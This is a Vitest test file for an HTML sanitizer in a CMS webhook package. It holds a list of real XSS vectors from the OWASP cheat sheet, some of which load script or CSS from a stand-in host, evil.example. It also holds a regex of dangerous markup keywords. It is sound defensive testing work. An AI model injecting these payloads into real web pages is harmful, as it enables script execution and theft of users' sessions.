import { describe, expect, it } from 'vitest';
import { loadHtmlSanitizer, sanitizeHtml } from 'webhook-cms-receiver/publish';
import { unsafeParts } from './unsafe-html.js';

/** Real vectors, from the OWASP XSS filter evasion cheat sheet and mutation-XSS write-ups. */
const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<IMG SRC=" &#14;  javascript:alert(1);">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href=" JAVASCRIPT:alert(1)">click</a>',
  '<a href="java\nscript:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<body onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<table background="javascript:alert(1)"><td onmouseover=alert(1)>x</td></table>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<a href="#" onclick="alert(1)">x</a>',
  '<img """><script>alert(1)</script>">',
  '<img src="https://cdn.example.com/a.png" alt="a" onload="alert(1)">',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<picture><source srcset="x" onerror="alert(1)"><img src=x></picture>',
];

describe('sanitizeHtml', () => {
  it('is checked by a detector that finds the danger in every raw vector', () => {
    // Harmless to an HTML parser in a fragment: the first is aimed at filters that delete
    // `<script>` from the text, the second needs a whole document.
    const harmlessParsed = ['<scr<script>ipt>alert(1)</scr</script>ipt>', '<body onload=alert(1)>'];
    for (const vector of VECTORS.filter((v) => !harmlessParsed.includes(v)))
      expect(unsafeParts(vector), vector).not.toEqual([]);
  });

  it.each(VECTORS)('leaves nothing that runs code: %s', async (vector) => {
    const clean = await sanitizeHtml(vector);
    expect(unsafeParts(clean)).toEqual([]);
    // Outside quoted attribute values (a title may quote any text): no code-bearing markup at all.
    expect(clean.replace(/"[^"]*"/g, '""')).not.toMatch(
      /<script|javascript:|vbscript:|onerror|onload|onclick|onfocus|ontoggle|onmouseover/i,
    );
    expect(await sanitizeHtml(clean)).toBe(clean);
  });

  it('keeps an article’s content as it was written', async () => {
    const article =
      '<h2 id="intro">Intro</h2><p>Read <a href="https://example.com/guide" title="Guide">the guide</a> and ' +
      '<a href="/articles/other">this one</a>.</p><ul><li><strong>Bold</strong> <em>text</em></li></ul>' +
      '<img src="https://cdn.example.com/a.png" alt="Chart"><blockquote>Quote</blockquote>' +
      '<pre><code class="language-ts">const a = 1 &lt; 2;</code></pre>' +
      '<table><thead><tr><th>A</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>';
    expect(await sanitizeHtml(article)).toBe(
      '<h2 id="user-content-intro">Intro</h2><p>Read <a href="https://example.com/guide" title="Guide">the guide</a> and ' +
        '<a href="/articles/other">this one</a>.</p><ul><li><strong>Bold</strong> <em>text</em></li></ul>' +
        '<img src="https://cdn.example.com/a.png" alt="Chart"><blockquote>Quote</blockquote>' +
        '<pre><code class="language-ts">const a = 1 &#x3C; 2;</code></pre>' +
        '<table><thead><tr><th>A</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>',
    );
  });

  it('removes scripts with their text, and the text of styles', async () => {
    expect(await sanitizeHtml('<p onclick="steal()">Hi<script>steal()</script></p>')).toBe('<p>Hi</p>');
    expect(await sanitizeHtml('<style>body{display:none}</style><p>a</p>')).toBe('<p>a</p>');
  });

  it('points in-page links at the prefixed ids, so a table of contents still works', async () => {
    expect(await sanitizeHtml('<a href="#intro">Intro</a><a href="#">Top</a><h2 id="intro">Intro</h2>')).toBe(
      '<a href="#user-content-intro">Intro</a><a href="#">Top</a><h2 id="user-content-intro">Intro</h2>',
    );
  });

  it('takes a schema of hast-util-sanitize in place of the default', async () => {
    const { defaultSchema } = await import('hast-util-sanitize');
    const options = { schema: { ...defaultSchema, clobberPrefix: '' } };
    expect(await sanitizeHtml('<h2 id="intro">x</h2><a href="#intro">y</a>', options)).toBe(
      '<h2 id="intro">x</h2><a href="#intro">y</a>',
    );
    expect(await sanitizeHtml('<img src=x onerror=alert(1)>', options)).toBe('<img src="x">');
  });

  it('loads once and then sanitizes synchronously', async () => {
    const sanitize = await loadHtmlSanitizer();
    expect(sanitize('<b onmouseover=alert(1)>b</b>')).toBe('<b>b</b>');
    expect(sanitize('')).toBe('');
  });
});
